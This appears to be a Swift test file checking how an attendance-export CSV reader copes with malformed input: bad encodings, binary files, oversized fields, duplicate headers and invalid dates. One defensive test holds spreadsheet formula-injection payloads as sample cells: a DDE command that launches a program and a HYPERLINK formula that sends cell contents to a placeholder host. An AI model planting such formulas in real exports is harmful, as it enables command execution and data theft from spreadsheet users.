import AttendanceCSV
import Foundation
import Testing

@testable import AttendanceFormats
@testable import AttendanceModel
@testable import AttendanceReports
@testable import AttendanceService

/// What reading an export does with the files staff receive instead of clean ones: a whole-file
/// problem is one error naming the file (and line); a bad value is an issue naming the line and
/// column while the rest of the file still counts.
@Suite struct ExportReaderBadInputTests {
    static func read(_ text: String, named name: String = "lista.csv") throws -> ParsedExport {
        try ExportReader.read(path: try ScratchFile.write(text, named: name), displayName: "evento/\(name)")
    }

    static func error(reading bytes: [UInt8], named name: String) throws -> FormatError? {
        let path = try ScratchFile.write(bytes, named: name)
        do {
            _ = try ExportReader.read(path: path, displayName: "evento/\(name)")
            return nil
        } catch let error as FormatError {
            return error
        }
    }

    @Test("an empty file, or one of blank lines and commas, says it is empty")
    func emptyFile() throws {
        for text in ["", "\n\n", ",,,\r\n , ,\r\n"] {
            let error = try #require(try Self.error(reading: Array(text.utf8), named: "vazio.csv"))
            #expect(
                error.description
                    == "evento/vazio.csv: the file is empty (no rows, or only blank lines and delimiters): nothing to import"
            )
        }
    }

    @Test(
        "an image or a web page saved as .csv is named for what it is (workbooks: XLSXReaderTests)",
        arguments: [
            (
                [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0x00, 0x00, 0x00, 0x0D, 0x49, 0x48, 0x44, 0x52],
                "a PNG image"
            ),
            (Array("<!DOCTYPE html>\n<html><body>Sessão expirada</body></html>\n".utf8), "an HTML web page"),
        ] as [([UInt8], String)])
    func binaryFormats(bytes: [UInt8], kind: String) throws {
        let error = try Self.error(reading: bytes, named: "lista.csv")
        #expect(error == .csv(.notText(file: "evento/lista.csv", kind: kind)))
        #expect(error?.description.hasPrefix("evento/lista.csv: this is \(kind), not a CSV text file") == true)
    }

    @Test("NUL bytes in a text are binary data, named by file and line")
    func nulBytes() throws {
        let bytes = Array("Nome,E-mail\nAna Souza,ana@example.org\n".utf8) + [0, 0, 0, 0] + Array("\n".utf8)
        #expect(try Self.error(reading: bytes, named: "lista.csv") == .csv(.binary(file: "evento/lista.csv", line: 3)))
    }

    @Test(
        "a single line of 64 MiB and more is a skipped row with an issue, or, at the largest field limit, a failed file"
    )
    func veryLongLine() throws {
        var bytes = Array("Nome,E-mail\nAna Souza,ana@example.org\nBeto Lima,".utf8)
        bytes += [UInt8](repeating: UInt8(ascii: "b"), count: (64 << 20) + 1)
        bytes += Array("\nCarla Dias,carla@example.org\n".utf8)
        let path = try ScratchFile.write(bytes, named: "longa.csv")
        let parsed = try ExportReader.read(path: path, displayName: "evento/longa.csv")
        #expect(parsed.records.map(\.name) == ["Ana Souza", "Carla Dias"])
        #expect(
            parsed.issues.map(\.description) == [
                "evento/longa.csv:3:2: field of 67108865 bytes is longer than the limit of 65536; row skipped"
            ])
        let limits = ReadingLimits(maximumFieldBytes: ReadingLimits.largestFieldLimit)
        #expect(throws: FormatError.csv(.fieldTooLarge(file: "evento/longa.csv", line: 3, limit: 64 << 20))) {
            try ExportReader.read(path: path, displayName: "evento/longa.csv", limits: limits)
        }
    }

    @Test("100,000 columns are refused with the line and the limit")
    func manyColumns() throws {
        let header = "Nome," + (1..<100_000).map { "c\($0)" }.joined(separator: ",")
        let error = try Self.error(reading: Array((header + "\nAna Souza\n").utf8), named: "larga.csv")
        #expect(error == .csv(.tooManyFields(file: "evento/larga.csv", line: 1, limit: 65_536)))
    }

    @Test("a list that is not UTF-8 is read as Windows-1252, its names whole")
    func windows1252List() throws {
        let bytes =
            Array("Nome;Cidade\r\nJos".utf8) + [0xE9] + Array(" Concei".utf8) + [0xE7, 0xE3]
            + Array("o;Bel".utf8) + [0xE9] + Array("m\r\nAna Souza;S".utf8) + [0xE3] + Array("o Paulo\r\n".utf8)
        let parsed = try ExportReader.read(
            path: try ScratchFile.write(bytes, named: "lista.csv"), displayName: "lista.csv")
        #expect(parsed.dialect.encoding == .windows1252)
        #expect(parsed.records.map(\.name) == ["José Conceição", "Ana Souza"])
        #expect(parsed.records.map(\.city) == ["Belém", "São Paulo"])
        #expect(parsed.issues.isEmpty)
    }

    @Test("a UTF-16 report cut in the middle of a character keeps its records; the cut is an issue, never a record")
    func oddUTF16() throws {
        var bytes: [UInt8] = [0xFF, 0xFE]
        for unit in "Nome\tE-mail\tDuração\r\nAna Souza\tana@example.org\t45\r\nBeto Lima\tbeto@example.org\t3".utf16 {
            bytes += [UInt8(unit & 0xFF), UInt8(unit >> 8)]
        }
        bytes += [0x3D, 0xD8, 0x00]  // half an emoji's surrogate pair, then half a unit
        let parsed = try ExportReader.read(
            path: try ScratchFile.write(bytes, named: "teams.csv"), displayName: "teams.csv")
        #expect(parsed.records.map(\.name) == ["Ana Souza", "Beto Lima"])
        #expect(parsed.records.first?.minutes == 45)
        #expect(
            parsed.issues.map(\.description) == [
                "teams.csv:3: UTF-16 text ends with half a character (the lone byte 0x00); the byte is ignored",
                "teams.csv:3:3: Duração: '3\u{FFFD}' is not a duration",
                "teams.csv:3:29: unpaired UTF-16 surrogate 0xD83D replaced by \u{FFFD}",
            ])
    }

    @Test("mixed line endings keep every record on its own line")
    func mixedLineEndings() throws {
        let parsed = try Self.read(
            "Nome,E-mail\r\nAna Souza,ana@example.org\nBeto Lima,beto@example.org\rCarla Dias,carla@example.org\r\n")
        #expect(parsed.records.map(\.line) == [2, 3, 4])
        #expect(parsed.records.map(\.email) == ["ana@example.org", "beto@example.org", "carla@example.org"])
    }

    @Test("a header with nothing below it is read, with an issue on the header's line")
    func headerOnly() throws {
        let parsed = try Self.read("\nNome,E-mail,Telefone\r\n,,\r\n")
        #expect(parsed.records.isEmpty)
        #expect(
            parsed.issues.map(\.description)
                == ["evento/lista.csv:2: no records: the file has a header on this line and nothing below it"])
    }

    @Test("a repeated header is an issue naming both columns; the first one is read")
    func duplicateHeaders() throws {
        let parsed = try Self.read("Nome,E-mail,nome,E-MAIL \nAna Souza,ana@example.org,Outra,outra@example.org\n")
        #expect(parsed.records.map(\.name) == ["Ana Souza"])
        #expect(parsed.records.map(\.email) == ["ana@example.org"])
        #expect(
            parsed.issues.map(\.description) == [
                "evento/lista.csv:1:3: header 'nome' repeats column 1's; column 1 is the one read",
                "evento/lista.csv:1:4: header 'E-MAIL' repeats column 2's; column 2 is the one read",
            ])
    }

    @Test("absurd dates and durations are issues with line and column; every record and good value stays")
    func absurdValues() throws {
        let parsed = try Self.read(
            """
            Nome,E-mail,Data,Duração
            Ana Souza,ana@example.org,10/03/2021,45
            Beto Lima,beto@example.org,31/02/2021,30
            Carla Dias,carla@example.org,10/03/9999,20
            Davi Reis,davi@example.org,10/03/2021,-5
            Eva Rocha,eva@example.org,10/03/2021,99999 min
            Fábio Melo,fabio@example.org,10/03/2021,1h 99m
            Gil Nunes,gil@example.org,10/03/2021,1h 5m
            Hugo Paz,hugo@example.org,10/03/2021,25:00:00

            """)
        #expect(parsed.records.map(\.line) == Array(2...9))
        #expect(
            parsed.issues.map(\.description) == [
                "evento/lista.csv:3:3: Data: '31/02/2021' is not a valid date",
                "evento/lista.csv:4:3: Data: '10/03/9999' is not a valid date: the year 9999 is outside 1900–2999",
                "evento/lista.csv:5:4: Duração: '-5' is not a duration",
                "evento/lista.csv:6:4: Duração: '99999 min' is 99999 minutes, longer than a day",
                "evento/lista.csv:7:4: Duração: '1h 99m' is not a duration",
                "evento/lista.csv:9:4: Duração: '25:00:00' is 1500 minutes, longer than a day",
            ])
        let day = Day(year: 2021, month: 3, day: 10)
        #expect(parsed.records.map(\.sessionDate) == [day, nil, nil, day, day, day, day, day])
        #expect(parsed.records.map(\.minutes) == [45, 30, 20, nil, nil, nil, 65, nil])
    }

    @Test("cells a spreadsheet would run as formulas are read as the text they are")
    func formulaCells() throws {
        let parsed = try Self.read(
            """
            Nome,E-mail,Telefone,Instituição
            =cmd|' /C calc'!A0,ana@example.org,+55 51 9999,@SUM(A1:A9)
            "=HYPERLINK(""http://x.example/?""&A1,""ver"")",beto@example.org,-1+1,'Prefeitura

            """)
        #expect(parsed.records.map(\.name) == ["=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example/?\"&A1,\"ver\")"])
        #expect(parsed.records.map(\.phone) == ["+55 51 9999", "-1+1"])
        #expect(parsed.records.map(\.organization) == ["@SUM(A1:A9)", "'Prefeitura"])
    }

    @Test("Moodle's leading apostrophe (its own formula guard) is dropped from dates, and only there")
    func moodleApostrophe() throws {
        let parsed = try Self.read(
            """
            ID,Name,Email address,Course complete
            '201001,'Clara Duarte,clara@example.org,"'20/10/20, 12:00"

            """, named: "moodle.csv")
        #expect(parsed.format == .moodleCompletion)
        #expect(parsed.records.first?.completionDate == Day(year: 2020, month: 10, day: 20))
        #expect(parsed.records.first?.name == "'Clara Duarte")
        #expect(parsed.issues.isEmpty)
    }
}
